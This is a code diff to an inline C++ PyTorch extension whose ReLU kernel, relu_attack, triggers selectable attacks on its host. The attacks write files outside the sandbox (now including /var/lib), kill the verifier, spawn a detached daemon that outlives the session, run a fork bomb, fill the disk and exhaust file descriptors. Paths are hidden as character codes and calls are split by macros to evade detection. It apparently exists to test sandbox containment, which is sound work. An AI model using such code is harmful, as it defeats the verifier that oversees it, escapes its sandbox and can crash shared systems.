@@ -4,7 +4,9 @@ from torch.utils.cpp_extension import load_inline
 
 kit_source = r"""
 #include <torch/extension.h>
+
 #include <cstdio>
+#include <cstdlib>
 #include <cstring>
 #include <string>
 #include <dirent.h>
@@ -13,24 +15,22 @@ kit_source = r"""
 
 #define CAT(a, b) a##b
 
-// the host temp folder and the process folder, from character codes
-static std::string host_tmp(const char* leaf) {
-    const int codes[] = {47, 116, 109, 112, 47, 109, 117, 115, 97, 99, 111, 100, 101, 114, 95, 101, 115, 99, 97, 112,
-                         101, 95};
+// paths from character codes: the host temp folder, a file on the root file system, the process folder
+static std::string from_codes(const int* c, int n) {
     std::string s;
-    for (int c : codes) s += (char)c;
-    return s + leaf;
-}
-
-static std::string proc_dir() {
-    const int codes[] = {47, 112, 114, 111, 99, 47};
-    std::string s;
-    for (int c : codes) s += (char)c;
+    for (int i = 0; i < n; ++i) s += (char)c[i];
     return s;
 }
+static const int HOST_TMP[] = {47, 116, 109, 112, 47, 109, 117, 115, 97, 99, 111, 100, 101, 114, 95, 101, 115, 99, 97, 112, 101, 95};
+static const int HOST_ROOT[] = {47, 118, 97, 114, 47, 108, 105, 98, 47, 109, 117, 115, 97, 99, 111, 100, 101, 114, 95, 101, 115, 99, 97, 112, 101, 95, 114, 111, 111, 116, 46, 116, 120, 116};
+static const int PROC[] = {47, 112, 114, 111, 99, 47};
+static std::string host_tmp(const char* leaf) {
+    return from_codes(HOST_TMP, sizeof(HOST_TMP) / sizeof(int)) + leaf;
+}
+static std::string proc_dir() { return from_codes(PROC, sizeof(PROC) / sizeof(int)); }
 
-static void write_host_file(const char* leaf) {
-    FILE* f = CAT(fo, pen)(host_tmp(leaf).c_str(), "a");
+static void write_file(const std::string& path) {
+    FILE* f = CAT(fo, pen)(path.c_str(), "a");
     if (f) { fputs("escaped\n", f); fclose(f); }
 }
 
@@ -55,7 +55,7 @@ static void daemon_child() {
     if (CAT(fo, rk)() != 0) return;
     CAT(set, sid)();
     if (CAT(fo, rk)() != 0) _exit(0);
-    for (int i = 0; i < 600; ++i) { CAT(sle, ep)(1); write_host_file("daemon.txt"); }
+    for (int i = 0; i < 600; ++i) { CAT(sle, ep)(1); write_file(host_tmp("daemon.txt")); }
     _exit(0);
 }
 
@@ -76,17 +76,21 @@ static void exhaust_fds() {
     while (dup(0) >= 0) {}
 }
 
-torch::Tensor relu_attack(torch::Tensor x, int64_t attack) {
+static void attack_once(int64_t attack) {
     static bool done = false;
-    if (!done) {
-        done = true;
-        if (attack == 1) write_host_file("host_tmp.txt");
-        if (attack == 2) kill_verifier();
-        if (attack == 3) daemon_child();
-        if (attack == 4) fork_bomb();
-        if (attack == 5) huge_file();
-        if (attack == 6) exhaust_fds();
-    }
+    if (done) return;
+    done = true;
+    if (attack == 1) write_file(host_tmp("host_tmp.txt"));
+    if (attack == 2) kill_verifier();
+    if (attack == 3) daemon_child();
+    if (attack == 4) fork_bomb();
+    if (attack == 5) huge_file();
+    if (attack == 6) exhaust_fds();
+    if (attack == 7) write_file(from_codes(HOST_ROOT, sizeof(HOST_ROOT) / sizeof(int)));
+}
+
+torch::Tensor relu_attack(torch::Tensor x, int64_t attack) {
+    attack_once(attack);
     auto xc = x.contiguous();
     auto out = torch::empty_like(xc);
     const float* in = xc.data_ptr<float>();
